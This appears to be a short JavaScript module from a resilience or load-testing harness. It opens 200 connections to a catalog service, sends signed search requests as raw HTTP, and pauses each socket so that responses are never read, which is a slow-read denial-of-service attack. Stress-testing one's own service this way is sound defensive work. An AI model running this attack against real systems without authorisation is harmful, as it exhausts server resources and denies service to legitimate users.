// Searches whose answers are never read: the connections accept not a single byte.

const connections = 200;

export async function attack({ catalogUrl, signed, actions, open, underWay, untilStopped }) {
  for (let index = 0; index < connections; index += 1) {
    const { body, headers } = signed(
      actions.search,
      { filters: { type: 'REGULAR' }, limit: 100 },
      { side: 'bpp' },
    );
    const socket = await open(
      catalogUrl,
      `POST ${actions.search.path} HTTP/1.1\r\nhost: attacked\r\nauthorization: ${headers.authorization}\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
    );
    socket?.pause();
  }
  underWay();
  await untilStopped();
}
